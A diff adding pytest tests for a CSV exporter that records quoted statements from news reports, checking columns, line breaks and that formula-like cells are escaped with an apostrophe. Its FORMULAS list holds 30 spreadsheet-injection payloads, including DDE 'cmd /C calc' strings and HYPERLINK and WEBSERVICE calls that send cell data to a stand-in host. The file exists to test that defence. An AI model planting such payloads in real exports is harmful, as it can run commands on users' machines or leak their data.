@@ -1,0 +1,118 @@
+"""The record as CSV."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from made import MADE, at, ferry_reading, make_actor, make_reading, make_report, make_statement
+from onrecord.corroborate.record import gather
+from onrecord.exporters.csv import record_to_csv
+from onrecord.values import SpeakerStatus
+
+FERRY_RECORD = gather([ferry_reading()], [], MADE)
+
+FORMULAS = (
+    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"more")', '=""&A1', "==1", "= 1", "="),
+    *('=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "=SUM(A1:A9)*cmd|'/C calc'!A0"),
+    *("+1+1", "+cmd|' /C calc'!A0", "+SUM(1)", "++1", "+"),
+    *("-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-", "-A1"),
+    *("@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@@", "@IMPORTXML(A1)"),
+    *("\t=1+1", "\t+1", "\tword", "\r=1+1", "\r-1"),
+)
+
+
+def read_back(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_a_row_says_who_said_what_and_where() -> None:
+    """
+    Words are those of the report; a place is a line, counted from 1, and offsets.
+    """
+    row = read_back(record_to_csv(FERRY_RECORD))[0]
+
+    assert row == {
+        "report": "r1",
+        "location": "reports/ferry.html",
+        "outlet": "Halsten Courier",
+        "title": "Ferry firm knew of cracked bow door, inspector says",
+        "published": "2025-11-14",
+        "statement": "s1",
+        "speakers": "Ruth Amsel",
+        "speaker": "a former inspector",
+        "speaker_status": "resolved",
+        "cue": "said",
+        "content": "The owner of the ferry that sank off Halsten was told twice about a cracked bow door",
+        "form": "indirect",
+        "act": "speech",
+        "confidence": "0.83",
+        "line": "5",
+        "start": "60",
+        "end": "144",
+    }
+
+
+def test_a_content_in_pieces_is_joined_by_an_ellipsis() -> None:
+    """
+    So that nobody takes words for one sentence that were two.
+    """
+    assert read_back(record_to_csv(FERRY_RECORD))[2]["content"] == "“Nobody” … “came to look.”"
+
+
+def test_several_speakers_stand_in_one_cell() -> None:
+    """
+    Parted by semicolons, since names have commas.
+    """
+    assert read_back(record_to_csv(FERRY_RECORD))[5]["speakers"] == "Anna Kell; Piet Lowe"
+
+
+def test_a_record_without_statements_is_a_head_line() -> None:
+    """
+    A script that reads the file finds its columns.
+    """
+    assert record_to_csv(gather([], [], MADE)).count("\n") == 1
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_no_cell_is_a_formula(cell: str) -> None:
+    """
+    A spreadsheet runs what begins with = + - @, tab or carriage return; after an apostrophe it is text.
+    """
+    text = f"{cell}, said Ana"
+    statement = make_statement(
+        [at(text, cell)], speaker=(at(text, cell),), speakers=("a1",), speaker_status=SpeakerStatus.RESOLVED
+    )
+    report = make_report(text, location=cell, outlet=cell, title=cell)
+    record = gather([make_reading(report, statement, actors=[make_actor(cell)])], [], MADE)
+
+    (row,) = read_back(record_to_csv(record))
+
+    for name in ("location", "outlet", "title", "speakers", "speaker", "content"):
+        assert row[name] == f"'{cell}"
+
+
+def test_every_line_break_of_a_report_stays_within_its_cell() -> None:
+    """
+    Quotations run over paragraphs, and files come from every system.
+    """
+    text = "“One\n\ntwo\r\nthree\rfour”"
+    record = gather([make_reading(make_report(text), make_statement([at(text, text)]))], [], MADE)
+
+    assert [row["content"] for row in read_back(record_to_csv(record))] == [text]
+
+
+def test_there_are_thirty_cells_to_try() -> None:
+    """
+    The hazard list asks for as many.
+    """
+    assert len(set(FORMULAS)) == 30
+
+
+def test_numbers_stay_numbers() -> None:
+    """
+    Only words get an apostrophe.
+    """
+    assert not any("'" in row["start"] + row["confidence"] for row in read_back(record_to_csv(FERRY_RECORD)))
